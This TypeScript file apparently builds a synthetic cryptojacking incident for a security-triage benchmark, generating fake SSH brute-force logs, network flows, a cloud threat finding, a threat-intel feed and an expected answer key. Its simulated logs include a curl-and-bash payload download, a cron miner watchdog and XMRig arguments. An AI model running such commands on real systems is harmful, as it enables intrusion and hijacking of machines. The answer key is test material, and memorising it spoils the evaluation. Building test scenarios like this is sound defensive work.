import { makeEnvironment, makeVm } from "./environment.js";
import type { Expected } from "./expected.js";
import { LogBook } from "./log-book.js";
import { dnsQuery, syslogLine, TABLES, vpcFlow } from "./log-entries.js";
import { addBackgroundNoise } from "./noise.js";
import { sccNotification } from "./notification.js";
import type { Rng } from "./prng.js";
import { type ScenarioDefinition, scenarioFiles } from "./scenario.js";
import { addFeedNoise, StixBundle } from "./stix.js";

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;

const EVENT_TIME = "2025-06-11T03:14:27.551Z";
const ATTACKER_IP = "198.51.100.77";
const PAYLOAD_IP = "192.0.2.146";
const POOL_DOMAIN = "xmr.pool-relay.top";
const POOL_IP = "203.0.113.88";
const POOL_LOCATION = {
  continent: "Europe",
  country: "nld",
  region: "North Holland",
  city: "Amsterdam",
  asn: 64512,
};
const MINER_PATH = "/tmp/.kworker/kworkerd";

function moneroWallet(rng: Rng): string {
  const alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
  let out = "4";
  for (let i = 0; i < 94; i++) out += alphabet[rng.int(0, alphabet.length - 1)];
  return out;
}

/**
 * A Compute Engine worker with sshd open to the internet gets its weak `deploy` password
 * guessed, the intruder drops an XMRig build in /tmp, keeps it alive from cron and the VM
 * mines to a pool for the next hours; VM Threat Detection matches the miner's memory pages.
 */
function build(rng: Rng): Map<string, string> {
  const T = Date.parse(EVENT_TIME);
  const vms = [
    makeVm(rng, {
      name: "etl-worker-1",
      role: "etl",
      host: 12,
      externalIp: "34.71.22.180",
      sshExposed: true,
    }),
    makeVm(rng, { name: "etl-worker-2", role: "etl", host: 13 }),
    makeVm(rng, { name: "web-frontend-1", role: "web", host: 20, externalIp: "34.71.40.9" }),
    makeVm(rng, { name: "db-replica-1", role: "db", host: 30 }),
    makeVm(rng, { name: "bastion-1", role: "bastion", host: 5, externalIp: "34.71.3.77" }),
  ];
  const env = makeEnvironment(rng, {
    projectId: "acme-analytics-prod",
    domain: "acme-data.io",
    vms,
    buckets: ["acme-analytics-raw", "acme-analytics-exports"],
  });
  const victim = vms[0]!;
  const book = new LogBook();
  addBackgroundNoise(book, env, { start: T - 10 * HOUR, end: T + 90 * MINUTE }, rng.fork("noise"));

  const signal = rng.fork("signal");
  const log = (time: number, program: string, message: string, pid?: number) =>
    book.add(
      TABLES.syslog,
      syslogLine(signal, { project: env.project, time, vm: victim, program, pid, message }),
    );
  const flow = (time: number, spec: Omit<Parameters<typeof vpcFlow>[1], "project" | "time">) =>
    book.add(TABLES.vpcFlows, vpcFlow(signal, { project: env.project, time, ...spec }));

  // Password guessing against sshd, then the hit on the `deploy` account.
  const guessStart = T - 3 * HOUR;
  for (let n = 0; n < 70; n++) {
    const time = guessStart + n * signal.int(25_000, 140_000);
    const user = signal.pick(["root", "deploy", "admin", "ubuntu", "etl", "deploy"]);
    const port = signal.int(33000, 60999);
    const pid = signal.int(20000, 32000);
    if (user === "root" || user === "deploy")
      log(time, "sshd", `Failed password for ${user} from ${ATTACKER_IP} port ${port} ssh2`, pid);
    else
      log(
        time,
        "sshd",
        `Failed password for invalid user ${user} from ${ATTACKER_IP} port ${port} ssh2`,
        pid,
      );
    flow(time, {
      reporter: "DEST",
      src: { ip: ATTACKER_IP, port, location: POOL_LOCATION },
      dest: { ip: victim.ip, port: 22, vm: victim },
      bytes: signal.int(1800, 4200),
    });
  }
  const login = T - 49 * MINUTE;
  const sshPid = 28841;
  log(login, "sshd", `Accepted password for deploy from ${ATTACKER_IP} port 50412 ssh2`, sshPid);
  log(
    login + 60,
    "sshd",
    "pam_unix(sshd:session): session opened for user deploy(uid=1005) by (uid=0)",
    sshPid,
  );
  log(login + 150, "systemd-logind", "New session 31 of user deploy.", 611);
  flow(login, {
    reporter: "DEST",
    src: { ip: ATTACKER_IP, port: 50412, location: POOL_LOCATION },
    dest: { ip: victim.ip, port: 22, vm: victim },
    bytes: 48_211,
  });

  // Payload download and persistence.
  const drop = login + 2 * MINUTE;
  log(
    drop,
    "sudo",
    `deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://${PAYLOAD_IP}/k.sh -o /tmp/.k.sh`,
  );
  log(
    drop + 9_000,
    "sudo",
    "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash /tmp/.k.sh",
  );
  flow(drop + 4_000, {
    reporter: "SRC",
    src: { ip: victim.ip, port: 41822, vm: victim },
    dest: {
      ip: PAYLOAD_IP,
      port: 80,
      location: { ...POOL_LOCATION, city: "Rotterdam", region: "South Holland" },
    },
    bytes: 1_412,
  });
  flow(drop + 14_000, {
    reporter: "DEST",
    src: {
      ip: PAYLOAD_IP,
      port: 80,
      location: { ...POOL_LOCATION, city: "Rotterdam", region: "South Holland" },
    },
    dest: { ip: victim.ip, port: 41822, vm: victim },
    bytes: 2_304_118,
  });
  log(drop + 21_000, "crontab", "(deploy) REPLACE (deploy)", 30117);
  log(drop + 23_000, "crontab", "(deploy) END EDIT (deploy)", 30117);

  // The miner resolves its pool, then keeps a stratum session with regular shares.
  const start = drop + 60_000;
  for (let t = start; t < T + 90 * MINUTE; t += 27 * MINUTE) {
    book.add(
      TABLES.dns,
      dnsQuery(signal, {
        project: env.project,
        time: t + signal.int(0, 4000),
        vm: victim,
        name: POOL_DOMAIN,
        answers: [POOL_IP],
        ttl: 300,
      }),
    );
  }
  for (let t = start + 10 * MINUTE - (start % (10 * MINUTE)); t < T + 90 * MINUTE; t += 10 * MINUTE) {
    log(
      t + signal.int(0, 800),
      "CRON",
      `(deploy) CMD (pgrep -f kworkerd >/dev/null || ${MINER_PATH} --config=/tmp/.kworker/config.json >/dev/null 2>&1 &)`,
    );
  }
  let sessionPort = 51744;
  for (let t = start + 20_000; t < T + 90 * MINUTE; t += 60_000 + signal.int(-6_000, 6_000)) {
    const minutesIn = (t - start) / MINUTE;
    // The pool's main port flapped for a while and the miner failed over.
    const port = minutesIn > 24 && minutesIn < 33 ? 14444 : minutesIn > 52 && minutesIn < 55 ? 4444 : 3333;
    if (signal.chance(0.04)) sessionPort = signal.int(40000, 60000);
    flow(t, {
      reporter: "SRC",
      src: { ip: victim.ip, port: sessionPort, vm: victim },
      dest: { ip: POOL_IP, port, location: POOL_LOCATION },
      bytes: signal.int(9_000, 26_000),
    });
    flow(t + signal.int(100, 900), {
      reporter: "DEST",
      src: { ip: POOL_IP, port, location: POOL_LOCATION },
      dest: { ip: victim.ip, port: sessionPort, vm: victim },
      bytes: signal.int(30_000, 95_000),
    });
  }

  const minerSha = signal.hex(64);
  const wallet = moneroWallet(signal);
  const minerArgs = [
    MINER_PATH,
    "-o",
    `stratum+tcp://${POOL_DOMAIN}:3333`,
    "-u",
    wallet,
    "-p",
    "x",
    "-k",
    "--donate-level=0",
    "--cpu-max-threads-hint=90",
  ];
  const notification = sccNotification(rng.fork("finding"), env, {
    source: "vmThreatDetection",
    category: "Execution: Cryptocurrency Mining Hash Match",
    findingClass: "THREAT",
    severity: "HIGH",
    eventTime: EVENT_TIME,
    resource: {
      name: `//compute.googleapis.com/projects/${env.project.id}/zones/${victim.zone}/instances/${victim.id}`,
      type: "google.compute.Instance",
      displayName: victim.name,
    },
    description:
      "Virtual Machine Threat Detection found memory pages of a running process matching known cryptocurrency mining software.",
    externalUri: `https://console.cloud.google.com/compute/instancesDetail/zones/${victim.zone}/instances/${victim.name}?project=${env.project.id}`,
    finding: {
      sourceProperties: {
        vm_instance_name: victim.name,
        vm_zone: victim.zone,
        detection_engine: "memory-hash",
      },
      indicator: {
        signatures: [
          {
            memoryHashSignature: {
              binaryFamily: "XMRig",
              detections: [{ binary: "XMRig", percentPagesMatched: 0.93 }],
            },
          },
        ],
      },
      processes: [
        {
          name: "kworkerd",
          binary: { path: MINER_PATH, size: "6421504", sha256: minerSha },
          args: minerArgs,
          pid: "30244",
          parentPid: "1",
        },
      ],
      mitreAttack: {
        primaryTactic: "IMPACT",
        primaryTechniques: ["RESOURCE_HIJACKING"],
        additionalTactics: ["EXECUTION"],
      },
    },
  });

  const intel = new StixBundle(rng.fork("intel"), "2025-05-20T09:00:00.000Z", "Ferret Demo Threat Feed");
  const xmrig = intel.malware(
    "XMRig",
    ["resource-exploitation"],
    "Open-source Monero CPU miner, commonly dropped by cryptojacking intrusions.",
  );
  const campaign = intel.campaign(
    "Kworker cryptojacking wave",
    "SSH password guessing followed by XMRig deployment disguised as a kernel worker.",
  );
  const poolDomain = intel.indicator({
    name: "Mining pool proxy domain",
    pattern: `[domain-name:value = '${POOL_DOMAIN}']`,
    types: ["malicious-activity"],
    description: "Stratum proxy used by cryptojacking bots.",
    confidence: 85,
    validFrom: "2025-05-18T00:00:00.000Z",
  });
  const poolIp = intel.indicator({
    name: "Mining pool proxy",
    pattern: `[ipv4-addr:value = '${POOL_IP}']`,
    types: ["malicious-activity"],
    description: "Stratum endpoint on 3333/4444/14444.",
    confidence: 80,
    validFrom: "2025-05-18T00:00:00.000Z",
  });
  const minerHash = intel.indicator({
    name: "XMRig build (kworkerd)",
    pattern: `[file:hashes.'SHA-256' = '${minerSha}']`,
    types: ["malicious-activity"],
    confidence: 90,
    validFrom: "2025-05-19T00:00:00.000Z",
  });
  const payload = intel.indicator({
    name: "Cryptojacking payload server",
    pattern: `[ipv4-addr:value = '${PAYLOAD_IP}'] OR [url:value = 'http://${PAYLOAD_IP}/k.sh']`,
    types: ["malicious-activity"],
    confidence: 75,
    validFrom: "2025-05-18T00:00:00.000Z",
  });
  const scanner = intel.indicator({
    name: "SSH brute-force source",
    pattern: `[ipv4-addr:value = '${ATTACKER_IP}']`,
    types: ["anomalous-activity"],
    description: "Seen guessing SSH passwords across many networks.",
    confidence: 60,
    validFrom: "2025-06-01T00:00:00.000Z",
  });
  for (const id of [poolDomain, poolIp, minerHash]) intel.relate(id, "indicates", xmrig);
  for (const id of [poolDomain, payload, scanner]) intel.relate(id, "indicates", campaign);
  const mirror = intel.indicator({
    name: "Debian package mirror",
    pattern: "[domain-name:value = 'deb.debian.org']",
    types: ["benign"],
    validFrom: "2024-01-01T00:00:00.000Z",
  });
  intel.opinion([mirror], "strongly-agree", "Official Debian CDN name; traffic to it is expected.");
  addFeedNoise(
    intel,
    rng.fork("intel-noise"),
    "2025-04-01T00:00:00.000Z",
    new Set([POOL_IP, ATTACKER_IP, PAYLOAD_IP, POOL_DOMAIN]),
  );

  const expected: Expected = {
    scenario: "cryptomining",
    category: "Execution: Cryptocurrency Mining Hash Match",
    verdict: "true_positive",
    acceptableVerdicts: ["true_positive"],
    requiredIocs: [
      {
        type: "ip",
        value: POOL_IP,
        why: "the mining pool the VM sent shares to (found in VPC flows and the DNS answer)",
      },
      {
        type: "domain",
        value: POOL_DOMAIN,
        why: "the pool named in the miner's arguments and resolved by the VM",
      },
    ],
    requiredEvidence: [
      {
        id: "pool-traffic",
        description:
          "etl-worker-1 kept a stratum session to the pool IP (ports 3333/14444/4444) every minute",
        anyOf: [POOL_IP],
      },
      {
        id: "intel-malicious",
        description: "threat intel marks the pool (and the miner hash) malicious",
        anyOf: ["malicious"],
      },
      {
        id: "ssh-initial-access",
        description: "a password SSH login for deploy from the guessing IP preceded the miner",
        anyOf: [ATTACKER_IP],
      },
    ],
    optionalEvidence: [
      {
        id: "payload-download",
        description: "the intruder fetched the payload from the payload server",
        anyOf: [PAYLOAD_IP, "k.sh"],
      },
      {
        id: "cron-persistence",
        description: "a cron entry restarts the miner every ten minutes",
        anyOf: ["cron", "crontab"],
      },
      { id: "pool-dns", description: "the VM resolved the pool domain", anyOf: [POOL_DOMAIN] },
    ],
    mitreTechniques: ["T1496", "T1110.001", "T1053.003"],
    probes: [
      {
        runbook: "dns_queries_for_domain",
        params: { domain: POOL_DOMAIN },
        window: { hoursBefore: 4, hoursAfter: 1 },
        expect: [POOL_IP, victim.name],
        why: "the pool domain from the miner's arguments resolves to the pool IP, asked by the VM",
      },
      {
        runbook: "vpc_flows_from_instance",
        params: { instance: victim.name },
        window: { hoursBefore: 4, hoursAfter: 1 },
        expect: [POOL_IP, "3333", "14444"],
        why: "the VM's top external destination is the pool, on stratum ports",
      },
      {
        runbook: "ssh_logins_on_host",
        params: { instance: victim.name },
        window: { hoursBefore: 4, hoursAfter: 1 },
        expect: [ATTACKER_IP, "accepted", "failed_password"],
        why: "password guessing and then an accepted login from the same address",
      },
      {
        runbook: "host_syslog_search",
        params: { instance: victim.name, term: "/tmp/" },
        window: { hoursBefore: 4, hoursAfter: 1 },
        expect: [PAYLOAD_IP, "CRON", "kworkerd"],
        why: "the payload download and the cron watchdog",
      },
      {
        runbook: "vpc_flows_to_ip",
        params: { ip: POOL_IP },
        window: { hoursBefore: 4, hoursAfter: 1 },
        expect: [victim.name],
        why: "only this VM talks to the pool",
      },
    ],
    story:
      "sshd on etl-worker-1 faced the internet; 198.51.100.77 guessed the deploy password, fetched an XMRig build from 192.0.2.146, " +
      "added a cron watchdog, and the VM mined to xmr.pool-relay.top (203.0.113.88) until VM Threat Detection matched the miner.",
  };

  return scenarioFiles({ notification, intel, expected, logs: book });
}

export const cryptomining: ScenarioDefinition = {
  name: "cryptomining",
  seed: "ferret/cryptomining/v1",
  build,
};
